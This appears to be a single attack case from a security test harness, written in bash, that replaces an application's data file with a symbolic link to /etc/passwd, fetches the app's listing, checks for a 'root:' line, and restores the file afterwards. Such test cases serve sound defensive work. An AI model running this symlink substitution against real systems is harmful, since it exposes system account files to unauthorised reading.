# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1574
about="the data file becomes a symbolic link to a file worth having"
attack() {
	mv $site/data/entries $site/data/kept
	ln -s /etc/passwd $site/data/entries
	ask "$book?list" >"$state/answer"
}
effect() { grep -q '^root:' "$state/answer"; }
after() { mv -f $site/data/kept $site/data/entries; }
